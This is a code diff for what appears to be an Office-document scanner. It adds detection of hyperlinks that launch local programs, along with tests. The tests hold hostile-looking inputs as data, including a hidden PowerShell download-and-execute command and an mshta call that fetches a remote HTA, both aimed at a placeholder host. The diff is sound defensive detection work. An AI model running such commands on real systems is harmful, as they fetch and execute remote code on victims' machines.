@@ -182,6 +182,13 @@ fn classify(kind: &str, target: String, external: bool) -> Option<Reference> {
     let remote = is_remote(&target);
     match lower_kind.as_str() {
         "attachedtemplate" if remote => Some(Reference::RemoteTemplate { target }),
+        // A link to a program (PowerPoint's `ppaction://program` on a
+        // mouse-over, or a click) runs it with its arguments.
+        "hyperlink" if runs_program(&target) => Some(Reference::ExternalLink {
+            relationship: kind.to_owned(),
+            target,
+            handler: Some("program".into()),
+        }),
         // A click takes the user there, and Office asks first.
         "hyperlink" => None,
         "frame" | "subdocument" | "afchunk" | "externallinkpath" | "package" if remote => {
@@ -200,6 +207,35 @@ fn classify(kind: &str, target: String, external: bool) -> Option<Reference> {
         }),
         _ => None,
     }
+}
+
+/// True when a link's target is a program on this machine rather than a
+/// page or a document: no scheme (or `file:`), and a first word that is a
+/// command interpreter or a file that Windows runs (`powershell -w hidden
+/// ...`, `C:\Windows\System32\cmd.exe`, `file:///C:/x/a.hta`); percent
+/// escapes read as the link is followed.
+fn runs_program(target: &str) -> bool {
+    let decoded = super::datauri::percent_decode(target.trim().as_bytes());
+    let decoded = String::from_utf8_lossy(&decoded);
+    let t = decoded.trim();
+    // A quoted program path may hold spaces.
+    let first = match t.strip_prefix(['"', '\'']) {
+        Some(q) => q.split(['"', '\'']).next().unwrap_or(""),
+        None => t.split(char::is_whitespace).next().unwrap_or(""),
+    };
+    let first = match scheme(first).as_deref() {
+        None => first,
+        Some("file") => first[5..].trim_start_matches('/'),
+        Some(_) => return false,
+    };
+    let lower = first.to_ascii_lowercase();
+    is_interpreter(first)
+        || [
+            ".exe", ".com", ".bat", ".cmd", ".ps1", ".vbs", ".vbe", ".js", ".jse", ".wsf", ".hta",
+            ".scr", ".pif", ".cpl", ".msi", ".lnk",
+        ]
+        .iter()
+        .any(|e| lower.ends_with(e))
 }
 
 /// The scheme of `target`, lowercase, when it has one (not a drive letter).
@@ -446,6 +482,35 @@ mod tests {
             "file:///\\\\?\\C:\\t.dotx",
         ] {
             assert_eq!(rel("attachedTemplate", local, true), vec![], "{local}");
+        }
+    }
+
+    #[test]
+    fn links_to_programs_run_them() {
+        for program in [
+            "powershell%20-NoP%20-W%20Hidden%20-c%20iex(iwr%20http://x/a)",
+            "cmd.exe /c calc",
+            "C:\\Windows\\System32\\mshta.exe http://x/a.hta",
+            "file:///C:/Users/Public/a.hta",
+            "&quot;C:\\Program Files\\x.exe&quot; /s",
+        ] {
+            assert!(
+                matches!(
+                    &rel("hyperlink", program, true)[..],
+                    [Reference::ExternalLink { handler: Some(h), .. }] if h == "program"
+                ),
+                "{program}"
+            );
+        }
+        // Pages, downloads and documents are links like any other.
+        for link in [
+            "https://example.com/setup.exe",
+            "mailto:a@example.com",
+            "file:///C:/Reports/q3.xlsx",
+            "../docs/manual.pdf",
+            "#Slide3",
+        ] {
+            assert_eq!(rel("hyperlink", link, true), vec![], "{link}");
         }
     }
 
